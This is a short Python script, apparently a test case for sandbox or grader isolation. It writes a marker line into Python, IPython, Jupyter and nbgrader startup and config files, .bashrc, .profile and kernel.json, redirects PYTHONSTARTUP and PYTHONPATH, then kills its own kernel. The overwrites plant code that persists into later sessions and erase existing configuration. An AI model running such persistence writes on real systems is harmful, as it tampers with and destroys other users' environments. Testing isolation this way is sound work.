"""Writes every file that some program reads at its start, then ends its kernel, so that another one starts.

kind: writing for others
must: end its own process alone
"""
import os
import site

text = "import builtins, sys; sys.left_behind = builtins.left_behind = True"
home = os.environ["HOME"]
places = [f"{home}/.ipython/profile_default/startup/00.py", f"{home}/.ipython/profile_default/ipython_config.py"]
places += [f"{home}/.jupyter/jupyter_config.py", f"{home}/.jupyter/nbgrader_config.py", f"{home}/.bashrc", f"{home}/.profile"]
places += [f"{home}/.config/matplotlib/matplotlibrc", f"{home}/.local/share/jupyter/kernels/python3/kernel.json"]
places += [f"{site.getusersitepackages()}/{name}" for name in ("usercustomize.py", "sitecustomize.py", "left.pth")]
places += ["sitecustomize.py", "usercustomize.py", "/tmp/sitecustomize.py"]
for path in places:
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        open(path, "w").write(text)
    except OSError:
        pass
os.environ["PYTHONSTARTUP"] = os.environ["PYTHONPATH"] = "/tmp"
os._exit(1)
